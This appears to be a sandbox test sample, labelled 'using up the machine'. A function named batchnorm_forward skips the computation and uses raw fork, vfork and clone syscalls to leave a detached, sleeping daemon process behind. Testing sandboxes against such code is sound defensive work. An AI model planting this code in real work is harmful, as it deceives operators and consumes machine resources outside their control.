FAMILY = "using up the machine"
ABOUT = "Tries to leave a daemon behind: double fork, new session, bare clone and vfork."
MOST = 0

# %% batchnorm_forward
import ctypes
import os
import time

def batchnorm_forward(x, gamma, beta, bn_param):
    libc = ctypes.CDLL(None)
    for number, flags in ((56, 17), (57, 0), (58, 0), (435, 0), (56, 0x10000000)):
        if libc.syscall(number, flags, 0, 0, 0, 0) == 0:
            os.setsid()
            time.sleep(600)
            os._exit(0)
    return x, None
